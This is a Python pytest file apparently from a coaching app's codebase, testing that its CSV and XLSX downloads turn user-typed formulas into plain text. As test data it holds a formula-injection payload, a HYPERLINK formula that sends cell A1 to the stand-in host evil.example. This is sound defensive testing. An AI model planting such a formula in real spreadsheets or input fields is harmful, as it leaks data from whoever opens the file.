"""Every CSV and XLSX download neutralises formulas: text typed by a person that a spreadsheet
would run (``=``, ``+``, ``-``, ``@``, tab, carriage return first) comes out as text.

``EXPORTS`` lists every route that sends a spreadsheet, each with the typed text that flows
into it; a new route that sends one without being listed here fails
``test_every_spreadsheet_route_is_listed``."""

from __future__ import annotations

import csv
import inspect
import io
import re
from datetime import date, datetime, time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from coachapp import spreadsheets
from coachapp.oversight import services as oversight
from tests import factories
from tests.helpers import MARCH_ARGS

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def read(response, fmt: str) -> list[dict]:
    """The download's rows as dicts by header, and for XLSX the cells' types."""
    assert response.status_code == 200, response.status_code
    if fmt == "csv":
        assert response.mimetype == "text/csv"
        text = response.get_data(as_text=True)
        return list(csv.DictReader(io.StringIO(text, newline="")))
    assert response.mimetype == spreadsheets.XLSX_MIME
    book = load_workbook(io.BytesIO(response.get_data()))
    for sheet in book.worksheets:  # the cover and the Definitions sheet too
        for row in sheet.iter_rows():
            # A string starting with "=" would be stored as a formula cell ("f"): never.
            assert all(cell.data_type != "f" for cell in row), [c.value for c in row]
    sheet = book.worksheets[1] if book.sheetnames[0] == "Cover" else book.worksheets[0]
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    table = [dict(zip(header, [cell.value for cell in row], strict=True)) for row in rows[1:]]
    if book.sheetnames[0] == "Cover":  # the cover's values, as a row of their own
        table.append({row[0]: row[1] for row in book["Cover"].iter_rows(values_only=True)})
    return table


def report_download(fmt: str, table: str):
    def download(browser):
        return browser.get(f"/reports/export.{fmt}", query_string={"table": table, **MARCH_ARGS})

    return download


def typed_into_names(value: str, program, supervisor, program_manager):
    """A coach's name and the program's name, typed by an admin, reach the report tables."""
    program.name = value
    coach = factories.user("coach", program=program, supervisor=supervisor, name=value)
    factories.client(coach, intake_date=date(2026, 3, 2))
    return program_manager


def typed_into_break_glass_reason(value: str, program, supervisor, program_manager):
    """A break-the-glass reason, typed by an admin, is the audit event's detail."""
    coach = factories.user("coach", program=program, supervisor=supervisor)
    admin = factories.user("admin", program=program)
    oversight.break_glass(factories.client(coach), reason=value, actor=admin)
    factories.db.session.commit()
    return admin


def typed_into_billing_fields(value: str, program, supervisor, program_manager):
    """A client's member id (typed by a coach) and the coach's name (by an admin) reach the
    claims worksheet's lines."""
    from coachapp.models import BillingSetting, RecoveryPlan

    coach = factories.user("coach", program=program, supervisor=supervisor, name=value)
    client = factories.client(coach, intake_date=date(2026, 2, 2), member_id=value)
    factories.consent(client, signed_on=date(2026, 2, 2))  # TPO: the payer may receive it
    goal = factories.goal(client, opened_on=date(2026, 2, 3))
    signed = datetime(2026, 2, 5, 12)
    plan = RecoveryPlan(
        client_id=client.id,
        enrollment_id=client.latest_enrollment.id,
        status="signed",
        signed_by_client_at=signed,
        signed_by_coach_at=signed,
    )
    plan.goals.append(goal)
    factories.db.session.add_all(
        [plan, BillingSetting(program_id=program.id, effective_from=date(2026, 1, 1), payer="P")]
    )
    session = factories.session(
        client,
        on=date(2026, 3, 3),
        billable=True,
        start_time=time(9),
        end_time=time(9, 30),
        place_of_service="11",
        signed_at=datetime(2026, 3, 3, 18),
    )
    session.goals.append(goal)
    factories.db.session.commit()
    return factories.user("billing", program=program)


def billing_download(fmt: str):
    def download(browser):
        return browser.get(f"/billing/worksheet.{fmt}", query_string={"month": "2026-03"})

    return download


# endpoint -> [(id, how the value gets in, the download, the columns that carry it)]
EXPORTS = {
    "reports.export": [
        (f"{fmt}-{table}", typed_into_names, report_download(fmt, table), fmt, columns)
        for fmt in ("csv", "xlsx")
        for table, columns in (("by_coach", ["Coach"]), ("clients", ["Coach", "Program"]))
    ],
    "oversight.audit_export": [
        (
            "csv",
            typed_into_break_glass_reason,
            lambda browser: browser.get("/oversight/audit.csv?action=break_glass"),
            "csv",
            ["detail"],
        )
    ],
    "billing.download": [
        (
            fmt,
            typed_into_billing_fields,
            billing_download(fmt),
            fmt,
            ["Member id", "Rendering coach"],
        )
        for fmt in ("csv", "xlsx")
    ],
}


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
@pytest.mark.parametrize(
    ("endpoint", "case"),
    [
        pytest.param(endpoint, case, id=f"{endpoint}-{case[0]}")
        for endpoint, cases in EXPORTS.items()
        for case in cases
    ],
)
def test_typed_text_cannot_become_a_formula(
    login, program, supervisor, program_manager, endpoint, case, prefix
):
    _id, type_in, download, fmt, columns = case
    value = prefix + PAYLOAD
    viewer = type_in(value, program, supervisor, program_manager)
    rows = read(download(login(viewer)), fmt)
    cells = [
        row[column] for row in rows for column in columns if PAYLOAD in (row.get(column) or "")
    ]
    assert len(cells) >= len(columns), rows
    for cell in cells:
        assert cell.startswith("'") and cell.endswith(PAYLOAD), repr(cell)


def test_every_spreadsheet_route_is_listed(app):
    """A route whose view sends CSV or XLSX by any means is in ``EXPORTS``."""
    sends = re.compile(
        r"csv_response|xlsx_response|text/csv|spreadsheetml|XLSX_MIME|csv\.|openpyxl|\.csv\b"
    )
    found = set()
    for rule in app.url_map.iter_rules():
        view = app.view_functions[rule.endpoint]
        source = inspect.getsource(getattr(view, "view_class", view))  # a MethodView: its class
        if sends.search(source) or rule.rule.endswith((".csv", ".xlsx", ".<fmt>")):
            found.add(rule.endpoint)
    assert found == set(EXPORTS), "list the route in EXPORTS with the typed text it carries"


def test_only_the_shared_writer_writes_spreadsheets():
    """csv writers, openpyxl workbooks and the CSV type appear in ``coachapp.spreadsheets`` only,
    so no export can skip the neutraliser."""
    package = Path(spreadsheets.__file__).parent
    writers = re.compile(r"csv\.writer|csv\.DictWriter|Workbook\(|text/csv|spreadsheetml")
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if path != Path(spreadsheets.__file__) and writers.search(path.read_text())
    ]
    assert offenders == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("José Ñúñez", "José Ñúñez"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert spreadsheets.safe_cell(value) == expected


def test_xlsx_drops_characters_xml_cannot_carry(login, program, supervisor, program_manager):
    """A name with a control character (pasted from elsewhere) does not break the XLSX."""
    typed_into_names("Casey\x01 Coach", program, supervisor, program_manager)
    rows = read(report_download("xlsx", "by_coach")(login(program_manager)), "xlsx")
    assert "Casey Coach" in [row.get("Coach") for row in rows]


def test_headers_and_cover_text_are_neutralised_too():
    """A header or a cover line is text like any other."""
    rows = list(spreadsheets.csv_chunks([spreadsheets.Column("k", "=SUM(1)")], [["-1"]]))
    assert rows[0].splitlines() == ["'=SUM(1)", "'-1"]
    handle = spreadsheets.write_xlsx(
        [spreadsheets.Column("k", "@cmd")],
        [["+x"]],
        "t",
        cover=[("=label", "=value")],
        definitions=[spreadsheets.Definition("=name", "-meaning")],
    )
    book = load_workbook(handle)
    handle.close()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row)
    assert book["t"]["A1"].value == "'@cmd" and book["t"]["A2"].value == "'+x"
    assert book["Cover"]["A1"].value == "'=label" and book["Cover"]["B1"].value == "'=value"
    assert book["Definitions"]["A2"].value == "'=name"


def test_a_large_xlsx_is_written_row_by_row():
    """The table is consumed as a generator (never materialised) by the write-only sheet."""
    seen = 0

    def rows():
        nonlocal seen
        for n in range(5000):
            seen += 1
            yield [n, spreadsheets.Percent(0.5), date(2026, 3, 1)]

    columns = [
        spreadsheets.Column("n", "N", spreadsheets.COUNT),
        spreadsheets.Column("r", "Rate", spreadsheets.RATE),
        spreadsheets.Column("d", "Day", spreadsheets.DATE),
    ]
    handle = spreadsheets.write_xlsx(columns, rows(), "big")
    book = load_workbook(handle, read_only=True)
    last = list(book["big"].iter_rows(min_row=5001, values_only=True))
    handle.close()
    assert seen == 5000 and last == [(4999, 0.5, datetime(2026, 3, 1))]
